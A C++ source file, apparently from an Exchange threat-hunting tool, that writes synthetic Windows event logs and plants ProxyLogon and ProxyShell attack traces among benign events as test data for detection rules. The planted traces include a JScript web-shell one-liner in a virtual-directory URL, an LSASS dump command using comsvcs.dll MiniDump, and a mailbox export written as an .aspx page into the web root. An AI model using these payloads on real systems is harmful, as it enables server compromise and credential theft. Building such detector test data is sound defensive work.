#include "event_log_generator.h"

#include <algorithm>
#include <cstdio>
#include <map>

#include "evtx_writer.h"
#include "gen_rng.h"

namespace exhunt::gen {

namespace {

constexpr const char* kSysmon = "Microsoft-Windows-Sysmon/Operational";
constexpr const char* kMgmt = "MSExchange Management";

struct Planned {
  GenEvent event;
  std::string scenario, rule;  // rule: the built-in rule that must report it ("" for benign)
};

GenEvent Event(TimeMs t, const char* channel, const char* provider, uint16_t id, uint8_t level,
               std::vector<std::pair<std::string, std::string>> data, const std::string& computer) {
  GenEvent e;
  e.time = t;
  e.channel = channel;
  e.provider = provider;
  e.event_id = id;
  e.level = level;
  e.computer = computer;
  e.data = std::move(data);
  return e;
}

GenEvent Cmdlet(TimeMs t, const std::string& name, const std::string& params, const std::string& user,
                const std::string& computer) {
  return Event(t, kMgmt, "MSExchange CmdletLogs", 1, 4,
               {{"", name}, {"", params}, {"", user}, {"", "S-1-5-21-1004336348-1177238915-682003330-500"},
                {"", "S-1-5-21-1004336348-1177238915-682003330-500"}, {"", "Remote-ManagementShell-Unknown"},
                {"", "6132 w3wp#MSExchangePowerShellAppPool"}, {"", ""}, {"", "42"}, {"", "00:00:00.0312500"}},
               computer);
}

GenEvent Process(TimeMs t, const std::string& image, const std::string& command, const std::string& parent,
                 const std::string& parent_command, const std::string& user, const std::string& computer) {
  return Event(t, kSysmon, "Microsoft-Windows-Sysmon", 1, 4,
               {{"RuleName", "-"},
                {"UtcTime", FormatIsoTime(t).substr(0, 10) + " " + FormatIsoTime(t).substr(11, 12)},
                {"Image", image},
                {"CommandLine", command},
                {"CurrentDirectory", "C:\\Windows\\system32\\"},
                {"User", user},
                {"IntegrityLevel", "System"},
                {"ParentImage", parent},
                {"ParentCommandLine", parent_command}},
               computer);
}

const char* kW3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";

// One benign event of a busy Exchange server.
GenEvent Benign(Rng& rng, TimeMs t, const std::string& c) {
  static const std::vector<std::string> users = {"CONTOSO\\jdoe", "CONTOSO\\asmith", "CONTOSO\\mlee", "CONTOSO\\admin"};
  static const std::vector<std::string> pools = {"MSExchangeOWAAppPool", "MSExchangeECPAppPool",
                                                 "MSExchangeSyncAppPool", "MSExchangeMapiFrontEndAppPool"};
  switch (rng.Below(10)) {
    case 0:
    case 1:
    case 2:
      return Event(t, "Security", "Microsoft-Windows-Security-Auditing", 4624, 0,
                   {{"SubjectUserSid", "S-1-5-18"},
                    {"TargetUserName", rng.Pick(users).substr(8)},
                    {"TargetDomainName", "CONTOSO"},
                    {"LogonType", rng.Below(2) ? "3" : "8"},
                    {"IpAddress", "10.0.0." + std::to_string(10 + rng.Below(200))},
                    {"ProcessName", kW3wp}},
                   c);
    case 3:
      return Event(t, "Security", "Microsoft-Windows-Security-Auditing", 4688, 0,
                   {{"NewProcessName", "C:\\Windows\\System32\\svchost.exe"},
                    {"CommandLine", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"},
                    {"ParentProcessName", "C:\\Windows\\System32\\services.exe"},
                    {"SubjectUserName", "EXCH01$"}},
                   c);
    case 4:
      return Event(t, "System", "Service Control Manager", 7036, 4,
                   {{"param1", rng.Below(2) ? "Microsoft Exchange Search" : "Windows Update"},
                    {"param2", rng.Below(2) ? "running" : "stopped"}},
                   c);
    case 5:
      return Event(t, "Application", "MSExchange ADAccess", 2080, 4,
                   {{"", "w3wp.exe"}, {"", std::to_string(4000 + rng.Below(4000))},
                    {"", "Process w3wp.exe () (PID=" + std::to_string(4000 + rng.Below(4000)) +
                             "). Exchange Active Directory Provider has discovered the following servers"}},
                   c);
    case 6: {
      // Administration, including the look-alikes of the attackers' cmdlets.
      static const std::vector<std::pair<std::string, std::string>> cmdlets = {
          {"Get-Mailbox", "-ResultSize \"Unlimited\""},
          {"Set-Mailbox", "-Identity \"jdoe\" -ProhibitSendQuota \"9.5 GB\""},
          {"Get-ExchangeServer", ""},
          {"New-MailboxExportRequest", "-Mailbox \"mlee\" -FilePath \"\\\\fs01\\pst$\\mlee.pst\""},
          {"Set-OabVirtualDirectory", "-Identity \"EXCH01\\OAB (Default Web Site)\" -ExternalUrl "
                                      "\"https://mail.contoso.com/OAB\""},
          {"Get-MessageTrackingLog", "-Start \"03/01/2021\" -ResultSize \"5000\""}};
      const auto& [name, params] = rng.Pick(cmdlets);
      return Cmdlet(t, name, params, "contoso.local/Users/admin", c);
    }
    case 7:
      // Exchange app pools compile views: csc.exe under w3wp is normal.
      return Process(t, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                     "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths "
                     "@\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\" +
                         rng.Hex(8) + ".cmdline\"",
                     kW3wp, "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"" + rng.Pick(pools) + "\" -v \"v4.0\"",
                     "NT AUTHORITY\\SYSTEM", c);
    case 8:
      return Process(t, "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
                     "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs",
                     "NT AUTHORITY\\SYSTEM", c);
    default:
      return Event(t, kSysmon, "Microsoft-Windows-Sysmon", 11, 4,
                   {{"RuleName", "-"},
                    {"Image", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\MSExchangeTransport.exe"},
                    {"TargetFilename", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\TransportRoles\\data\\"
                                       "Queue\\trn" + rng.Hex(4) + ".log"}},
                   c);
  }
}

// The event-log traces of a planted chain, from its start.
std::vector<Planned> Plant(const std::string& scenario, TimeMs t0, const std::string& c) {
  std::vector<Planned> out;
  auto add = [&](GenEvent e, const char* rule) { out.push_back({std::move(e), scenario, rule}); };
  if (scenario == "proxylogon") {
    // At the times of the text logs' chain: the ECP command at t0+8.5 s, the
    // OAB export writing the page at t0+10.6 s, the shell used from t0+60 s.
    add(Cmdlet(t0 + 8500, "Set-OabVirtualDirectory",
               "-Identity \"EXCH01\\OAB (Default Web Site)\" -ExternalUrl \"http://f/<script language=\"JScript\" "
               "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>\"",
               "contoso.local/Users/SYSTEM", c),
        "exchange.windows.mgmt_vdir_script");
    add(Event(t0 + 5000, "Application", "MSExchange Unified Messaging", 1603, 2,
              {{"", "UM worker process"},
               {"", "System.InvalidCastException: Unable to cast object of type 'System.Object' to type "
                    "'Microsoft.Exchange.UM.UMCore.UMCallSession'."}},
              c),
        "exchange.windows.um_invalid_cast");
    add(Event(t0 + 10600, kSysmon, "Microsoft-Windows-Sysmon", 11, 4,
              {{"RuleName", "-"},
               {"Image", kW3wp},
               {"TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"}},
              c),
        "exchange.windows.page_written_by_worker");
    add(Process(t0 + 61000, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami /all", kW3wp,
                "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\"",
                "NT AUTHORITY\\SYSTEM", c),
        "exchange.windows.worker_child_shell");
    add(Process(t0 + 63000, "C:\\Windows\\System32\\rundll32.exe",
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\lsass.dmp full",
                "C:\\Windows\\System32\\cmd.exe", "cmd /c rundll32.exe comsvcs.dll MiniDump", "NT AUTHORITY\\SYSTEM",
                c),
        "exchange.windows.lsass_dump_tool");
  } else if (scenario == "proxyshell") {
    add(Cmdlet(t0 + 3000, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"admin@contoso.local\"",
               "contoso.local/Users/admin", c),
        "exchange.windows.mgmt_import_export_role");
    add(Cmdlet(t0 + 5000, "New-MailboxExportRequest",
               "-Mailbox \"admin@contoso.local\" -FilePath "
               "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\sdfgh.aspx\" -IncludeFolders \"#Drafts#\"",
               "contoso.local/Users/admin", c),
        "exchange.windows.mgmt_export_to_web");
    add(Event(t0 + 7000, kSysmon, "Microsoft-Windows-Sysmon", 11, 4,
              {{"RuleName", "-"},
               {"Image", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\"
                         "MSExchangeMailboxReplication.exe"},
               {"TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\sdfgh.aspx"}},
              c),
        "exchange.windows.page_written_by_worker");
    add(Cmdlet(t0 + 9000, "Remove-MailboxExportRequest", "-Identity \"admin\\MailboxExport\" -Confirm \"False\"",
               "contoso.local/Users/admin", c),
        "exchange.windows.mgmt_export_cleanup");
  }
  return out;
}

std::string FileOf(const std::string& channel) {
  std::string name = channel;
  for (size_t at; (at = name.find('/')) != std::string::npos;) name.replace(at, 1, "%4");
  return "Windows/System32/winevt/Logs/" + name + ".evtx";
}

}  // namespace

Status WriteEventLogs(const std::string& out, uint64_t seed, const EventLogPlan& plan, GenResult* result) {
  Rng rng(seed ^ 0xe7e7e7e7ULL);
  std::vector<Planned> events;
  for (const auto& [scenario, t0] : plan.scenarios)
    for (auto& p : Plant(scenario, t0, plan.computer)) events.push_back(std::move(p));
  std::stable_sort(events.begin(), events.end(),
                   [](const Planned& a, const Planned& b) { return a.event.time < b.event.time; });
  std::map<std::string, EvtxWriter> writers;
  uint64_t bytes = 0;
  auto total = [&] {
    uint64_t n = 0;
    for (const auto& [_, w] : writers) n += w.size();
    return n;
  };
  // Benign events in time order, planted ones in among them.
  const double gap = 3600000.0 / std::max(1.0, plan.events_per_hour);
  size_t next = 0;
  TimeMs t = plan.first;
  for (uint64_t n = 0;; ++n) {
    bool more = t <= plan.last || next < events.size() ||
                (plan.target_bytes && ((n & 4095) != 0 || total() < plan.target_bytes));
    if (!more) break;
    while (next < events.size() && events[next].event.time <= t) {
      Planned& p = events[next++];
      uint64_t id = writers[p.event.channel].Add(p.event);
      result->traces.push_back({p.scenario, FileOf(p.event.channel), id, p.rule});
    }
    GenEvent e = Benign(rng, t, plan.computer);
    writers[e.channel].Add(e);
    t += TimeMs(rng.Unit() * 2 * gap) + 1;
  }
  for (auto& [channel, w] : writers) {
    std::string path = out + "/" + FileOf(channel);
    std::string bytes_of = w.Finish();
    FILE* f = fopen(path.c_str(), "wb");
    if (!f) return Status::IoError("cannot write " + path);
    bool ok = fwrite(bytes_of.data(), 1, bytes_of.size(), f) == bytes_of.size();
    ok = fclose(f) == 0 && ok;
    if (!ok) return Status::IoError("cannot write " + path);
    bytes += bytes_of.size();
    ++result->files;
  }
  result->bytes += bytes;
  return Status::Ok();
}

}  // namespace exhunt::gen
